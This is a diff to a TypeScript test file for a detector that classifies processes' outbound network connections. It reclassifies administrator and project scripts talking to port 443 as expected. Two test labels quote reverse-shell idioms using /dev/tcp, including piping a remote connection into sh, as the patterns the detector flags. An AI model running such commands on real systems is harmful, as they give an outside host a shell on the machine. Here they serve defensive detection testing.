@@ -118,11 +118,12 @@ const cases: [string, Socket, Verdict, string[], string[], RegExp?][] = [
   ["sleep holding a connection to 8080 (exec 3<>/dev/tcp/HOST/8080; sleep)", outbound(proc("sleep", "/usr/bin/sleep", { ...alice, cmdline: ["sleep", "600"] }), "203.0.113.7", 8080), "suspicious", ["handed-connection"], []],
   ["cat holding a TCP connection to a public DNS port (cat </dev/tcp/HOST/53 | sh): handed-connection, not only direct DNS", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"] }), "203.0.113.7", 53), "suspicious", ["handed-connection"], ["direct-dns"]],
   ["cat holding a connection to a loopback health check (benign nearest)", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"] }), "127.0.0.1", 8080), "unknown", [], ["handed-connection"]],
-  ["the system python3 running a script from /opt that no package installs, to 443 (dpkg read)", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/opt/x/b.py"] }), "203.0.113.7", 443), "unknown", ["unpackaged-outbound"], ["usual-outbound"],
-    /runs the script \/opt\/x\/b\.py, which no package installs, and talks to a server on the Internet \(port 443\)/],
+  // The installed interpreter running a script from where an administrator installs programs: its executable comes from an installed package (issue 12, item 5)
+  ["the system python3 running an administrator's script from /opt, to 443 (dpkg read)", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/opt/x/b.py"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
   ["the same in a capture (no package database read): the port's word, as before", outbound(bare(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/opt/x/b.py"] })), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
   ["the system python3 running a packaged stdlib script (telnetlib) to 443 (benign nearest)", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/usr/lib/python3.11/telnetlib.py", "host", "443"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
-  ["a project's tool from node_modules/.bin under /srv to 443: a script no package installs", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "/srv/app/node_modules/.bin/next", "start"] }), "203.0.113.7", 443), "unknown", ["unpackaged-outbound"], ["usual-outbound"]],
+  ["a project's tool from node_modules/.bin under /srv to 443", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "/srv/app/node_modules/.bin/next", "start"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
+  ["the system python3 running a script from ~/.cache, to 443", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/home/alice/.cache/u/b.py"] }), "203.0.113.7", 443), "unknown", ["unpackaged-outbound"], ["usual-outbound"]],
 ];
 
 describe("provenance rules", () => {
